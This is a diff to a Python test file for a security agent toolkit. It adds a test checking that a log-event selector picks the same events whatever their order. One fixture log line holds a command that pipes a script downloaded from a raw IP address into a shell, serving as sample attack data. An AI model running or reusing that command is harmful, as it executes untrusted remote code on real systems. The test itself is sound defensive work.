@@ -6,7 +6,7 @@ from typing import Any
 
 import msgspec
 
-from services.agents.toolkit.evidence import gather
+from services.agents.toolkit.evidence import gather, most_telling
 from services.agents.toolkit.records import record
 from services.agents.toolkit.tools.alerts import GET_ALERT_TOOL, AlertArguments
 from services.agents.toolkit.tools.logs import GET_EVENT, EventArguments
@@ -76,3 +76,15 @@ async def test_of_very_many_related_alerts_some_are_read_and_that_is_said() -> N
     at_work = doing()
     await gather(AnalyzeThreat(alert_id=FIRST, related=[SECOND] * 30), at_work)
     assert "read 10 of 30 related alerts" in at_work.not_checked
+
+
+def test_which_events_are_read_does_not_depend_on_which_of_them_came_first() -> None:
+    lines = ["session opened", "curl -fsS http://45.33.32.156/a | sh", "session closed"]
+    items = [
+        {"log_id": f"{n:02}", "timestamp": f"2026-06-14T12:00:{n:02}.000Z", "message": lines[n % 7 % 3]}
+        for n in range(40)
+    ]
+    chosen = {
+        tuple(item["log_id"] for item in most_telling(come, 6)) for come in (items, items[::-1], items[7:] + items[:7])
+    }
+    assert len(chosen) == 1
